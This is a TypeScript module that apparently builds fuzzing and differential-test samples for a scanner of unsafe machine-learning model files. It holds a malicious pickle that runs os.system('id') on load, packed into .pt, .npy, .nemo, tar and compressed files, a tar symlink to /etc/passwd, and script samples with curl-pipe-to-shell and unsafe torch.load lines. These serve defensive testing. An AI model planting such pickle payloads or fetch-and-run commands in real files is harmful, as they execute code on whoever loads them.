import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { SAMPLES } from "../bytes/decoders/samples";
import { npyFile, npyHeader } from "../support/npy-builder";
import { pickle } from "../support/pickle-builder";
import { tar } from "../support/tar-builder";
import { zip } from "../support/zip-builder";
import { StreamGrammar } from "./grammar";
import { mutate } from "./mutate";
import { Random } from "./random";
import { ONNX } from "./samples-onnx";
import { CONFIGS } from "./samples-config";
import { HDF5 } from "./samples-hdf5";
import { KERAS } from "./samples-keras";
import { REAL } from "./samples-real";
import { SERVED } from "./samples-served";
import { TEMPLATES } from "./samples-templates";
import { TENSORFLOW } from "./samples-tensorflow";
import { WEIGHTS } from "./samples-weights";

export interface Sample {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const EVIL = pickle(2).call("os", "system", "id").stop();
const CALLS = [0, 1, 2, 3, 4, 5].map((protocol) => ({
  name: `calls${protocol}.pkl`,
  bytes: pickle(protocol).call("collections", "OrderedDict").emptyDict().build().call("os", "system", "id").stop(),
}));
const real = Object.entries(REAL).map(([name, text]) => ({
  name,
  bytes: Uint8Array.from(Buffer.from(text, "base64")),
}));

/** Pickles only: what the differential check mutates. */
export const PICKLES: readonly Sample[] = [...CALLS, ...real.filter(({ name }) => name.endsWith(".pkl"))];

/** Files of every format that is read. */
export const FILES: readonly Sample[] = [
  ...CALLS,
  ...real,
  ...SAMPLES.map(([id, how, text]) => ({ name: `${how}.${id}`, bytes: Uint8Array.from(Buffer.from(text, "base64")) })),
  { name: "v1.npy", bytes: npyFile(npyHeader("'<f8'", "(2, 3)"), new Uint8Array(48)) },
  { name: "v2.npy", bytes: npyFile(npyHeader("[('a', '<i4', (2,)), ('b', '|O')]", "(1,)"), EVIL, 2) },
  { name: "v3.npy", bytes: npyFile(npyHeader("'|O'", "(1,)"), EVIL, 3) },
  { name: "nested.pt", bytes: zip([{ name: "a/data.pkl", data: EVIL, method: 8 }, { name: "a/data/0", data: "0000" }, { name: "a/version", data: "3\n" }]) },
  { name: "wide.npz", bytes: zip([{ name: "x.npy", data: npyFile(npyHeader("'|O'", "(1,)"), EVIL), descriptor: "zip64" }], { zip64: true, comment: "c" }) },
  { name: "script.pt", bytes: zip([{ name: "s/constants.pkl", data: EVIL }, { name: "s/code/__torch__.py", data: "x = 1" }, { name: "s/data.pkl", data: EVIL }]) },
  { name: "model.nemo", bytes: gzipSync(tar([{ name: "./weights.ckpt", data: zip([{ name: "w/data.pkl", data: EVIL }]) }, { name: "link", type: "2", link: "/etc/passwd" }])) },
  { name: "members.tar", bytes: tar([{ name: "a.pkl", data: EVIL }, { name: "b.npy", data: npyFile(npyHeader("'<i4'", "()"), new Uint8Array(4)) }, { name: "long", type: "L", data: "n".repeat(120) }]) },
  { name: "deflated.joblib", bytes: deflateSync(EVIL) },
  { name: "inside.pkl", bytes: pickle(4).shortBinbytes(EVIL).memoize().shortBinunicode(Buffer.from(EVIL).toString("base64")).tuple2().shortBinbytes(gzipSync(EVIL)).tuple2().stop() },
  { name: "raw-deflate.bin", bytes: deflateRawSync(EVIL) },
  ...WEIGHTS,
  ...TENSORFLOW,
  ...KERAS,
  ...ONNX,
  ...CONFIGS,
  ...TEMPLATES,
  ...HDF5,
  ...SERVED,
  { name: "load.py", bytes: Buffer.from('import torch, pickle, requests\nfrom huggingface_hub import hf_hub_download as h\np = h("a/b-1", f"{x}.pt", **{"revision": "main"})\nclass A:\n  def f(self, u=1.):\n    self.d = requests.get(u).content\n    with open(p, "rb") as f: return pickle.load(f), torch.load(self.d, weights_only=False)\n') },
  { name: "load.ipynb", bytes: Buffer.from('{"cells": [{"cell_type": "code", "source": ["import pickle\\n", "!pip install git+https://a/b\\n", "pickle.load(f)"]}]}') },
  { name: "get.sh", bytes: Buffer.from("set -e\nif true; then curl -fsSL https://a/b | sudo bash -s -- -y; fi\nbash <(curl x) \"$(wget -qO- y)\" `a b`\ncat <<E | sh\ncurl x | sh\nE\ncurl -o f https://x/y && bash f\n") },
  { name: "Dockerfile", bytes: Buffer.from('FROM a\nRUN --mount=type=cache curl https://a | sh \\\n # c\n && b\nRUN ["sh", "-c", "curl a | sh"]\nRUN <<E\ncurl a | sh\nE\nENV A=b\n') },
]; // prettier-ignore

/** The sample of this number, for the walk: a damaged file or a random stream. */
export function fileCase(seed: number): Sample {
  const random = new Random(seed);
  const { name, bytes } = random.pick(FILES);
  if (random.chance(15))
    return { name: random.pick(NAMES), bytes: new StreamGrammar(random).stream(3 + random.int(40)) };
  const path = random.chance(80) ? name : random.pick(NAMES);
  return { name: path, bytes: mutate(random, bytes, random.pick(FILES).bytes) };
}

/** A damaged copy of one of these samples, which keeps its name: what is recognised by name is still read. */
export function damagedCase(samples: readonly Sample[], seed: number): Sample {
  const random = new Random(seed);
  const { name, bytes } = random.pick(samples);
  return { name, bytes: mutate(random, bytes, random.pick(FILES).bytes) };
}

const NAMES = ["m.pkl", "m", "m.pt", "m.npy", "m.npz", "m.joblib", "m.bin", "m.tar", "m.ckpt", "m.safetensors"];

/** The sample of this number, for the differential check: mostly by grammar, sometimes a damaged real pickle. */
export function streamCase(seed: number): Uint8Array {
  const random = new Random(seed);
  const stream = () => new StreamGrammar(random).stream(1 + random.int(random.pick([6, 12, 40])));
  const kind = random.int(10);
  if (kind < 6) return stream();
  if (kind < 8) return mutate(random, stream(), stream());
  return mutate(random, random.pick(PICKLES).bytes, stream());
}
